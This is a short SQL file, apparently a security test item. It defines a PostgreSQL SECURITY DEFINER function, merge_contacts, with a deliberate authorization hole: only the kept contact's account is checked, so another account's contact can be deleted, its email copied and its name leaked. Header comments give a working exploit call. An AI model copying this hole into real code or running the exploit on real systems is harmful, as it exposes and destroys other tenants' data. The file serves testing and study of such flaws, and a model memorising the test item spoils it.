-- Only the contact that stays is checked; the one merged into it may be another account's, and is deleted.
-- about: merge_contacts, contacts, conversations
-- as: hf_chatnook_app
-- exploit: SET app.user_id = '1';
-- exploit: SELECT merge_contacts('a2000000-0000-4000-8000-000000000000',
-- exploit: 'b2000000-0000-4000-8000-000000000000');
-- shows: Road-secret contact
CREATE FUNCTION merge_contacts(p_stays uuid, p_goes uuid) RETURNS text LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
DECLARE
  stays contacts;
  goes contacts;
BEGIN
  SELECT * INTO stays FROM contacts WHERE id = p_stays AND account_id IN (SELECT my_accounts());
  IF NOT FOUND THEN
    RAISE EXCEPTION 'no such contact';
  END IF;
  SELECT * INTO goes FROM contacts WHERE id = p_goes;
  UPDATE conversations SET contact_id = stays.id
  WHERE account_id = stays.account_id AND contact_id = goes.id;
  DELETE FROM contacts WHERE account_id = goes.account_id AND id = goes.id;
  UPDATE contacts SET email = coalesce(email, goes.email)
  WHERE account_id = stays.account_id AND id = stays.id;
  RETURN format('%s is now part of %s', goes.name, stays.name);
END $$;
GRANT EXECUTE ON FUNCTION merge_contacts(uuid, uuid) TO hf_chatnook_app;
